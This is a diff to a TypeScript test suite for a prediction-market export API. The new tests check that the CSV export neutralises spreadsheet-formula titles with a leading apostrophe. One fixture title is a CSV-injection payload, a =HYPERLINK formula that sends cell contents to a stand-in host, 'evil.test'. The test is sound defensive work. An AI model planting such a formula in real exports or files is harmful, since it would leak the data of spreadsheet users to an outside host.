@@ -32,6 +32,10 @@ const STATUS = ['active', 'closed', 'resolved', 'annulled'] as const;
 const CATS = ['politics', 'crypto', 'finance'] as const;
 const N_QUESTIONS = 12;
 const TRICKY_TITLE = 'Will "quotes", commas,\nnewlines and ünïcødé survive?';
+/** Titles a spreadsheet would evaluate (q:7, q:8) and a number written as text (q:9). */
+const FORMULA_TITLES: Record<number, string> = { 7: '=HYPERLINK("http://evil.test/?x="&A1,"click") will CPI exceed 3?', 8: '@SUM(A1) polls', 9: '-2.5' };
+/** What the CSV export writes for a title: a formula gets a leading apostrophe, the rest is exact. */
+const csvTitle = (title: string) => (/^[=+\-@\t\r]/.test(title) && Number.isNaN(Number(title)) ? `'${title}` : title);
 
 function day(d: number, month = 1): string {
   return `2025-${String(month).padStart(2, '0')}-${String(d).padStart(2, '0')} 00:00:00`;
@@ -81,7 +85,7 @@ async function writeExtraTables(dataDir: string, id: string): Promise<void> {
     const qRows = qs.map((q, i) =>
       `(${[
         lit(q.question_id, 'VARCHAR'), lit(['polymarket', 'kalshi', 'manifold'][i % 3]!, 'VARCHAR'), lit(`m-${i}`, 'VARCHAR'),
-        lit(i === 5 ? TRICKY_TITLE : `Question ${i}`, 'VARCHAR'), lit(`desc ${i}`, 'VARCHAR'), lit(`criteria ${i}`, 'VARCHAR'),
+        lit(i === 5 ? TRICKY_TITLE : FORMULA_TITLES[i] ?? `Question ${i}`, 'VARCHAR'), lit(`desc ${i}`, 'VARCHAR'), lit(`criteria ${i}`, 'VARCHAR'),
         lit(`https://example.test/${i}`, 'VARCHAR'), lit(q.category, 'VARCHAR'), lit('policy', 'VARCHAR'), `['t${i}']::VARCHAR[]`,
         lit(q.created_at, 'TIMESTAMP'), lit(day(i + 1, 3), 'TIMESTAMP'), lit(q.status, 'VARCHAR'),
         q.status === 'resolved' ? lit(i % 8 === 2 ? 1 : 0, 'DOUBLE') : 'NULL::DOUBLE',
@@ -368,11 +372,25 @@ describe('predictions export: formats', () => {
     for (const rows of [arr, lines, parquetRows]) {
       expect(rows.map((x) => x.question_id)).toEqual(csv.map((x) => x.question_id));
       rows.forEach((row, k) => {
-        expect(row.title).toBe(csv[k]!.title);
+        expect(csvTitle(row.title)).toBe(csv[k]!.title);
         expect(row.status).toBe(csv[k]!.status);
         if (csv[k]!.consensus === '') expect(row.consensus).toBeNull();
         else expect(Number(row.consensus)).toBeCloseTo(Number(csv[k]!.consensus), 12);
       });
+    }
+  });
+
+  it('csv: text a spreadsheet would run as a formula gets a leading apostrophe; numbers written as text, json and parquet are exact', async () => {
+    const csv = parseCsv((await get('/api/export/predictions?output=csv')).text);
+    const title = (rows: { question_id?: string; title?: string }[], id: string) => rows.find((x) => x.question_id === id)!.title;
+    expect(title(csv, 'q:7')).toBe(`'${FORMULA_TITLES[7]}`);
+    expect(title(csv, 'q:8')).toBe(`'${FORMULA_TITLES[8]}`);
+    expect(title(csv, 'q:9')).toBe('-2.5');
+    expect(title(csv, 'q:1')).toBe('Question 1');
+    const json = JSON.parse((await get('/api/export/predictions?output=json')).text) as { question_id: string; title: string }[];
+    const parquet = await readParquet((await get('/api/export/predictions?output=parquet')).bytes);
+    for (const rows of [json, parquet]) {
+      for (const i of [7, 8, 9]) expect(title(rows, `q:${i}`)).toBe(FORMULA_TITLES[i]);
     }
   });
 
